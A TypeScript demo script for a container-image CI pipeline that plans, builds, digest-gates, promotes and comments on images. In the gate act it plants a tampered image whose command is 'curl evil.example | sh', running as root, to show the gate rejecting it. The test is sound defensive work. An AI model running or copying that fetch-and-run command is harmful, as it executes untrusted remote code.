/** The acts of the demo. What they print is read from the outputs of the bundles; nothing is told that did not happen. */

import { addPull } from '../../__tests__/support/github-state.ts';
import type { BuildCall, OciBuilder } from '../../__tests__/support/oci-builder.ts';
import { act, bad, good, paint, progress, rows, say } from './stage.ts';
import { expectSuccess, type World } from './world.ts';

/** The fields of a matrix entry that the story reads; it is handed to the builder as it is. */
interface Entry extends BuildCall {
  readonly name: string;
  readonly ref: string;
}

export interface Plan {
  readonly base: string;
  readonly head: string;
  readonly waves: readonly (readonly Entry[])[];
  readonly event: { readonly name: string; readonly payload: unknown };
}

const catalog = {
  catalog: 'images/spec.yml',
  'rebuild-all': 'images/tests_common/**\nimages/spec.yml',
};

export async function planPullRequest({ stacks, registry, run }: World, builder: OciBuilder): Promise<Plan> {
  act(1, 'plan', 'What does this pull request have to build?');
  const base = stacks.commit('The stack as it is published');
  const published = await run('generate-matrix', {
    cwd: stacks.folder,
    inputs: { ...catalog, registry: `${registry}/acme`, image: '{registry}/{name}', tags: '2023.2-stable\nmain' },
    env: { GITHUB_SHA: base },
  });
  const { include } = JSON.parse(expectSuccess('generate-matrix', published).matrix ?? '') as {
    include: readonly Entry[];
  };
  for (const entry of include) await builder.build(entry, stacks.folder);

  stacks.branch('newer-scipy');
  stacks.write('images/scipy-ml-notebook/packages.txt', 'scipy==1.11.4\nscikit-learn==1.3.2\nxgboost==2.0.3\n');
  const head = stacks.commit('Newer scipy, and xgboost');
  const event = { name: 'pull_request', payload: pullRequest(base, head) };
  const planned = await run('plan', {
    cwd: stacks.folder,
    event,
    inputs: {
      ...catalog,
      ancestors: 'all',
      registry: `${registry}/acme`,
      image: '{registry}/{name}',
      tags: '{prefix}-{short-sha}\npr-{pr}',
    },
    env: {
      GITHUB_SHA: head,
      GITHUB_REF: 'refs/pull/42/merge',
      GITHUB_BASE_REF: 'main',
      GITHUB_HEAD_REF: 'newer-scipy',
    },
  });
  const outputs = expectSuccess('plan', planned);
  const reasons = JSON.parse(outputs.reasons ?? '{}') as Record<string, string>;
  const names = include.map(({ name }) => name);
  say(
    `  ${names.length} images in the catalog; compared ${paint('cyan', base.slice(0, 7))}…${paint('cyan', head.slice(0, 7))} (${outputs['base-source']})`,
  );
  rows(
    names.map((name) => [
      name,
      reasons[name] === undefined ? paint('dim', 'unchanged') : paint('yellow', reasons[name]),
    ]),
  );
  const waves = (JSON.parse(outputs.waves ?? '[]') as readonly { include: readonly Entry[] }[]).map(
    (wave) => wave.include,
  );
  return { base, head, waves, event };
}

export async function buildWaves({ stacks }: World, builder: OciBuilder, { waves }: Plan): Promise<void> {
  act(2, 'build', 'Parents before children');
  const total = waves.flat().length;
  const lines: string[][] = [];
  await progress('building', total, async (done) => {
    for (const [wave, entries] of waves.entries()) {
      for (const entry of entries) {
        const { digest } = await builder.build(entry, stacks.folder);
        lines.push([`wave ${wave}`, entry.name, entry.ref.split(':').at(-1) ?? '', paint('dim', digest.slice(0, 19))]);
        done();
      }
    }
  });
  rows(lines);
}

export async function record({ run, stacks, reports }: World, plan: Plan): Promise<string> {
  act(3, 'record', 'What exactly was tested?');
  const recorded = await run('digest-gate', {
    cwd: stacks.folder,
    event: plan.event,
    inputs: { mode: 'record', images: named(plan), source: 'registry', store: 'file', path: reports },
    env: { GITHUB_SHA: plan.head },
  });
  const { seal = '' } = expectSuccess('digest-gate', recorded);
  good(`${plan.waves.flat().length} image reports, sealed by ${paint('cyan', seal.slice(0, 16))}…`);
  return seal;
}

export async function gateOpens(world: World, plan: Plan, seal: string): Promise<void> {
  act(4, 'gate', 'Is what is released what was tested?');
  const outputs = expectSuccess('digest-gate', await verify(world, plan, seal));
  const verdicts = JSON.parse(outputs.images ?? '{}') as Record<string, { level: string; digest: string }>;
  for (const [name, { level, digest }] of Object.entries(verdicts)) {
    good(`${paint('bold', name)} is the tested image (${level}) ${paint('dim', digest.slice(0, 19))}`);
  }
}

export async function gateCloses(world: World, builder: OciBuilder, plan: Plan, seal: string): Promise<void> {
  act(5, 'gate', 'Somebody pushes another image under the same tag');
  const entry = plan.waves.flat().find(({ name }) => name === 'scipy-ml-notebook');
  if (!entry) throw new Error('the plan lacks scipy-ml-notebook');
  // The same layers with another command: what a gate that compares layers alone lets pass.
  await builder.build(entry, world.stacks.folder, (spec) => ({
    ...spec,
    config: { ...spec.config, User: 'root', Cmd: ['/bin/sh', '-c', 'curl evil.example | sh'] },
  }));
  const closed = await verify(world, plan, seal);
  if (closed.exitCode === 0) throw new Error('the gate let a foreign image pass');
  const differences = JSON.parse(closed.outputs.differences ?? '[]') as readonly Record<string, string>[];
  bad(`the gate is closed: ${paint('bold', `verified=${closed.outputs.verified}`)}, and nothing is promoted`);
  rows(
    differences.map(({ image = '', what = '', expected = '', found = '' }) => [
      image,
      what,
      `${paint('green', short(expected))} → ${paint('red', short(found))}`,
    ]),
  );
  await builder.build(entry, world.stacks.folder);
  expectSuccess('digest-gate', await verify(world, plan, seal));
  good('the tested image is back, and the gate opens again');
}

export async function tryPromotion({ crate, registry, run }: World, builder: OciBuilder): Promise<void> {
  act(6, 'promote', 'May latest move? All 14 images, or none');
  crate.commit('A release candidate');
  const first = await release('v0.1.0rc3');
  if (first.promoted !== '0') throw new Error('a release candidate became latest');
  bad(`refused: ${first['skipped-reason']}`);
  crate.write('VERSION', 'v0.1.0\n');
  crate.commit('The release');
  const second = await release('v0.1.0');
  const moves = JSON.parse(second.result ?? '[]') as readonly {
    image: string;
    tag: string;
    action: string;
    digest: string;
  }[];
  good(`v0.1.0: ${second.promoted} tags moved and read back, no layer was pulled`);
  rows(
    moves
      .slice(0, 3)
      .map(({ image, tag, action, digest }) => [
        `${image.split('/').at(-1)}:${tag}`,
        action,
        paint('dim', `→ ${digest.slice(0, 19)}`),
      ]),
  );
  say(paint('dim', `    … and ${moves.length - 3} more`));

  async function release(tag: string): Promise<Readonly<Record<string, string>>> {
    const env = {
      GITHUB_REPOSITORY: 'acme/crate',
      GITHUB_REF: `refs/tags/${tag}`,
      GITHUB_REF_NAME: tag,
      GITHUB_REF_TYPE: 'tag',
    };
    const event = { name: 'push', payload: { ref: `refs/tags/${tag}`, before: '0'.repeat(40), after: '1'.repeat(40) } };
    const matrix = await run('generate-matrix', {
      cwd: crate.folder,
      event,
      env,
      inputs: {
        'catalog-format': 'axes',
        axes: 'runtime: [cpu, cuda]\npython: "@PYTHON_VERSIONS"',
        registry: `${registry}/acme`,
        image: '{registry}/opencrate-{runtime}-py{python}',
        file: 'docker/dockerfiles/Dockerfile.{runtime}-py{python}',
        context: '.',
        tags: '{version}',
      },
    });
    const outputs = expectSuccess('generate-matrix', matrix);
    const { include } = JSON.parse(outputs.matrix ?? '') as { include: readonly Entry[] };
    await progress(`building ${tag}`, include.length, async (done) => {
      for (const entry of include) {
        await builder.build(entry, crate.folder);
        done();
      }
    });
    const promoted = await run('tag-latest', {
      cwd: crate.folder,
      event,
      env,
      inputs: { images: outputs.images ?? '', tags: 'latest' },
    });
    return expectSuccess('tag-latest', promoted);
  }
}

export async function tellReviewer(world: World, plan: Plan): Promise<string> {
  act(7, 'comment', 'What does the reviewer see?');
  const { run, stacks, reports, github } = world;
  const verified = await verify(world, plan, '');
  addPull(github.state, { number: 42, headSha: plan.head, headRef: 'newer-scipy', baseRef: 'main' });
  const inputs = {
    'github-token': github.token,
    reports: `${reports}/*.json`,
    verified: verified.outputs.verified ?? '',
    differences: verified.outputs.differences ?? '',
    command: '/regen',
  };
  const call = {
    cwd: stacks.folder,
    event: plan.event,
    inputs,
    env: { ...github.environment, GITHUB_SHA: plan.head },
  };
  const created = expectSuccess('pr-comment', await run('pr-comment', call));
  const again = expectSuccess('pr-comment', await run('pr-comment', call));
  const [comment, ...others] = github.state.comments;
  if (!comment || others.length > 0) throw new Error('there is not exactly one comment');
  good(`comment ${created.outcome}; a second run says ${paint('bold', again.outcome ?? '')}: there is one comment\n`);
  return comment.body;
}

function verify({ run, stacks, reports }: World, plan: Plan, seal: string) {
  return run('digest-gate', {
    cwd: stacks.folder,
    event: plan.event,
    inputs: { mode: 'verify', images: named(plan), store: 'file', path: reports, expected: seal },
    env: { GITHUB_SHA: plan.head },
  });
}

function named(plan: Plan): string {
  return plan.waves
    .flat()
    .map(({ name, ref }) => `${name}=${ref}`)
    .join('\n');
}

function short(text: string): string {
  return text.length > 40 ? `${text.slice(0, 39)}…` : text;
}

function pullRequest(base: string, head: string) {
  const repo = { full_name: 'acme/stacks', default_branch: 'main', fork: false, clone_url: '' };
  return {
    action: 'opened',
    number: 42,
    repository: { full_name: 'acme/stacks', default_branch: 'main' },
    pull_request: {
      number: 42,
      title: 'Newer scipy',
      labels: [],
      changed_files: 1,
      head: { sha: head, ref: 'newer-scipy', repo },
      base: { sha: base, ref: 'main', repo },
    },
  };
}
